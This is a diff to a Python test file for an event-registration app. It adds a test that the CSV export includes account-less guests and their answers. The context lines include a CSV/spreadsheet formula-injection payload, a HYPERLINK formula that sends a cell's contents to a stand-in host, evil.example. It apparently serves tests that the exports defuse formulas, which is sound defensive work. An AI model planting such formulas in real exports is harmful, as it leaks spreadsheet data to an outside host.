@@ -5,9 +5,10 @@ import io
 import openpyxl
 
 from lab.core.timeutil import to_rome
-from lab.events import queries, registrations, services
+from lab.events import queries, questions, registrations, services, signup
 from tests.conftest import sign_in
 from tests.events.conftest import delegates, publish
+from tests.events.test_signup import link_in
 from tests.factories import make_person
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"clic")'
@@ -90,3 +91,26 @@ def test_the_manage_page_links_the_list_and_both_downloads(client, organiser, fo
     page = client.get(f"/events/{forum.id}/manage").get_data(as_text=True)
     for path in ("registrations", "registrations.csv", "registrations.xlsx"):
         assert f'href="/events/{forum.id}/{path}"' in page
+
+
+def test_the_export_lists_people_without_an_account_and_every_answer(client, organiser, smtp):
+    event = publish(organiser, capacity=5)
+    question = questions.add_question(organiser, event, questions.QuestionDraft(
+        "Arriverai in treno?", "yes_no"))
+    member = delegates("piemonte", 1)[0]
+    registrations.register(member, event)
+    signup.request_signup(event, "Anna Bianchi", "anna@example.org", "Comune di Asti",
+                          questions.Details({question.id: "yes"}, dietary="Vegetariana"))
+    signup.confirm_signup(link_in(smtp, "anna@example.org", "/events/signup/"))
+    sign_in(client, organiser)
+    rows = list(csv.reader(io.StringIO(
+        client.get(f"/events/{event.id}/registrations.csv").get_data(as_text=True))))
+    header = rows[0]
+    guest = dict(zip(header, rows[2]))
+    assert [rows[1][1], guest["Nome"], guest["Email"]] == [
+        "Piemonte 0", "Anna Bianchi", "anna@example.org"]
+    assert guest["Organizzazione (senza account)"] == "Comune di Asti"
+    assert guest["Arriverai in treno?"] == "Sì"
+    assert guest["Esigenze alimentari"] == "Vegetariana"
+    page = client.get(f"/events/{event.id}/registrations").get_data(as_text=True)
+    assert "Anna Bianchi" in page and "anna@example.org" in page
